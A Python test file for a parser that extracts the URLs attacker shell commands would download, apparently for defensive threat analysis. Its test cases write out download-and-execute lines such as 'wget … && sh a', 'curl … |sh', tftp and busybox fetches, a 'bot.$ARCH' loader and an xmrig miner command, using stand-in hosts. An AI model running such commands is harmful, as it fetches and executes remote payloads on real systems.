"""Shell commands of attackers: what they would fetch."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cure.formats.shell import fetched


@pytest.mark.parametrize(
    ("command", "urls"),
    [
        ("wget http://192.0.2.1/a; curl -O http://192.0.2.1/a", ["http://192.0.2.1/a"]),
        ("wget 192.0.2.1/a&&sh a", ["http://192.0.2.1/a"]),
        ("/bin/busybox wget 192.0.2.1:8080/a -O- >b", ["http://192.0.2.1:8080/a"]),
        ("(wget -qO- example.com/x||curl -sL example.net/y)|sh",
         ["http://example.com/x", "http://example.net/y"]),
        ("curl 'http://example.com/a?b=1&c=2'|sh", ["http://example.com/a?b=1&c=2"]),
        ("curl http://example.com/a?b=1&c=2", ["http://example.com/a?b=1"]),
        ("curl -A agent/1.0 -o x.sh/y HTTPS://Example.com", ["https://example.com/"]),
        ("x=$(curl https://[2001:db8::1]/x)", ["https://[2001:db8::1]/x"]),
        ("wget http://192.0.2.1/bot.$ARCH", ["http://192.0.2.1/bot.$ARCH"]),
        ("tftp 192.0.2.1 -c get a.sh", ["tftp://192.0.2.1/a.sh"]),
        ("tftp -g -l b -r a.sh 192.0.2.1", ["tftp://192.0.2.1/a.sh"]),
        ("tftp -r a.sh -g 192.0.2.1;sh a.sh", ["tftp://192.0.2.1/a.sh"]),
        ("ftpget -v -u anonymous -p x -P 2121 192.0.2.1 a b", ["ftp://192.0.2.1:2121/b"]),
        ("ftpget 192.0.2.1 b", ["ftp://192.0.2.1/b"]),
        ("python -c \"urlopen('ftp://192.0.2.1/a')\"", ["ftp://192.0.2.1/a"]),
    ],
)  # fmt: skip
def test_what_a_command_would_fetch_is_found(command, urls):
    assert [found.value for found in fetched(command)] == urls


@pytest.mark.parametrize(
    "command",
    [
        "",
        "uname -a",
        "tftp; wget; /bin/busybox ECCHI",
        "wget",
        "wget -O x.sh",
        "curl -o",
        "chmod 777 x.sh; ./x.sh",
        "wget http://$IP/a http:// http://nosuchhost/a",
        "wget http://192.168.1.1:8088/i",
        "tftp -g 192.0.2.1",
        "ftpget 192.0.2.1",
        "xmrig -o stratum+tcp://192.0.2.1:3333",
        "cat /etc/wget.conf/a.b",
    ],
)
def test_what_fetches_nothing_from_elsewhere_has_no_urls(command):
    assert fetched(command) == []


PIECES = st.sampled_from(
    ["wget ", "curl ", "tftp ", "ftpget ", "get ", "-r ", "-P ", "http://", "'", '"', "/", "$", ";"]
)


@given(st.lists(st.one_of(PIECES, st.text(max_size=10)), max_size=12).map("".join))
def test_any_text_is_read(command):
    found = fetched(command)
    assert len(found) == len(set(found))
